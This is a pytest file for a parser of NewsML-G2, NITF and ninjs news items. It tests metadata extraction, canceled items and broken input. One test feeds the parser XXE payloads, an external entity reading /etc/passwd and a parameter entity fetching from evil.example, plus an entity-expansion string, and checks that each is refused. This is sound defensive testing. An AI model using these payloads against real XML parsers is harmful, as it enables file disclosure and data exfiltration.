"""News of agencies: NewsML-G2, NITF and ninjs; XML that could reach out is refused."""

# ruff: noqa: E501  (documents as programs write them)

import json
from collections.abc import Callable
from typing import Any

import pytest

A, B = "Two people were hurt when the dam burst.", "More soon."
CONTENT = f"<contentSet><inlineXML contenttype='application/nitf+xml'><nitf><body><body.content><p>Two people were "\
          f"<em>hurt</em> when the dam burst.</p><media><caption>no</caption></media><p>{B}</p></body.content></body></nitf>"\
          "</inlineXML></contentSet>"  # fmt: skip


def item(*, content: str = CONTENT, status: str = "usable", meta: str = "") -> str:
    return (
        "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='urn:x:1' version='2' xml:lang='en'><itemMeta>"
        f"<provider literal='Coast Agency'/><versionCreated>2031-05-02T09:00:00Z</versionCreated><pubStatus qcode='stat:{status}'/>"
        "</itemMeta><contentMeta><contentCreated>2031-05-02T08:00:00Z</contentCreated><creditline>Coast/Inland</creditline>"
        f"<by>Ann Oke</by><headline>Dam bursts</headline><dateline>DORVIK, May 2</dateline><language tag='en-GB'/>{meta}"
        f"</contentMeta>{content}</newsItem>"
    )


def test_a_news_item(read: Callable[..., Any]) -> None:
    found = read(f"<?xml version='1.0'?>{item()}", "a.xml").one
    assert found.content == f"DORVIK, May 2\n\n{A}\n\n{B}\n\n(Coast/Inland)"
    given = found.given
    assert (given.outlet, given.title, given.language, given.author) == (
        "Coast Agency",
        "Dam bursts",
        "en-GB",
        "Ann Oke",
    )
    assert (given.published, given.updated) == ("2031-05-02T08:00:00Z", "2031-05-02T09:00:00Z")


@pytest.mark.parametrize(
    ("content", "texts"),
    [
        (
            f"<contentSet><inlineXML><html><body><p>{A}</p><ul><li>{B}</li></ul></body></html></inlineXML></contentSet>",
            [A, B],
        ),
        (f"<contentSet><inlineData contenttype='text/plain'>{A}\n\n{B}</inlineData></contentSet>", [A, B]),
    ],
)
def test_other_contents(content: str, texts: list[str], read: Callable[..., Any]) -> None:
    assert read(item(content=content), "a.xml").one.content.split("\n\n")[1:3] == texts


def test_a_message_of_items(read: Callable[..., Any]) -> None:
    picture = "<contentSet><remoteContent href='p.jpg'/></contentSet>"
    items = item() + item(content=picture) + item(status="canceled") + item(content=CONTENT.replace("Two", "Six"))
    found = read(f"<newsMessage><itemSet>{items}</itemSet></newsMessage>", "a.xml")
    assert [r.name for r in found.reports] == ["a.xml#item-1", "a.xml#item-4"]
    assert found.reasons == ["no-text", "canceled"]
    assert read("<newsMessage><itemSet/></newsMessage>", "a.xml").reasons == ["no-text"]


def test_nitf(read: Callable[..., Any]) -> None:
    data = (
        "<nitf><head><title>x</title><docdata><date.issue norm='20310502T080000Z'/></docdata><pubdata name='The Harbour Post'/>"
        "</head><body><body.head><hedline><hl1>Dam bursts</hl1></hedline><byline>By Ann Oke</byline><dateline>DORVIK</dateline>"
        f"</body.head><body.content><p>DORVIK - {A}</p></body.content></body></nitf>"
    )
    found = read(data, "a.xml").one
    assert (found.content, found.given.title, found.given.outlet, found.given.published) == (
        f"DORVIK - {A}", "Dam bursts", "The Harbour Post", "2031-05-02T08:00:00Z"
    )  # fmt: skip


@pytest.mark.parametrize(
    "head",
    [
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]>",
        "<!DOCTYPE a [<!entity % b SYSTEM 'https://evil.example/'> %b;]>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities(head: str, encoding: str, read: Callable[..., Any]) -> None:
    found = read((head + item(meta="<x/>")).encode(encoding), "a.xml")
    assert found.reasons in (["xml-entities"], ["unsupported-format"]) and not found.reports


def test_broken_xml(read: Callable[..., Any]) -> None:
    assert read(item()[:400], "a.xml").reasons == ["broken"]
    assert read("<newsItem>" * 5000, "a.xml").reasons == ["broken"]


NINJS = {"uri": "https://coast.example/1", "type": "text", "language": "en", "byline": "Ann Oke"}


@pytest.mark.parametrize(
    "value",
    [
        {**NINJS, "versioncreated": "2031-05-02T09:00:00Z", "firstcreated": "2031-05-02T08:00:00Z", "headline": "Dam",
         "body_text": A, "infosource": [{"name": "Coast Agency"}]},
        {**NINJS, "versioncreated": "2031-05-02T09:00:00Z", "contentcreated": "2031-05-02T08:00:00Z",
         "headlines": [{"role": "sub", "value": "x"}, {"role": "main", "value": "Dam"}],
         "bodies": [{"role": "main", "contenttype": "text/plain", "value": A}], "infosources": [{"name": "Coast Agency"}]},
        {**NINJS, "standard": {"name": "ninjs", "version": "3.0"}, "versionCreated": "2031-05-02T09:00:00Z",
         "firstCreated": "2031-05-02T08:00:00Z", "headlines": [{"role": "main", "value": "Dam"}],
         "bodies": [{"contentType": "text/plain", "value": A}], "infoSources": [{"name": "Coast Agency"}]},
    ],
)  # fmt: skip
def test_ninjs(value: Any, read: Callable[..., Any]) -> None:
    found = read(json.dumps(value), "a.json").one
    given = found.given
    assert (found.content, given.title, given.outlet, given.author) == (A, "Dam", "Coast Agency", "Ann Oke")
    assert (given.published, given.updated) == ("2031-05-02T08:00:00Z", "2031-05-02T09:00:00Z")
    assert (given.url, given.language) == ("https://coast.example/1", "en")


def test_ninjs_that_are_no_texts(read: Callable[..., Any]) -> None:
    base = {**NINJS, "versioncreated": "2031-05-02T09:00:00Z"}
    page = {**base, "body_html": f"<p>{A}</p>"}
    withdrawn = {**base, "body_text": A, "pubstatus": "canceled"}
    found = read(json.dumps([page, {**base, "type": "picture", "body_text": "x"}, withdrawn]), "a.json", again=False)
    assert [(r.name, r.media) for r in found.reports] == [("a.json#item-1", "html")]
    assert found.reasons == ["no-text", "canceled"]
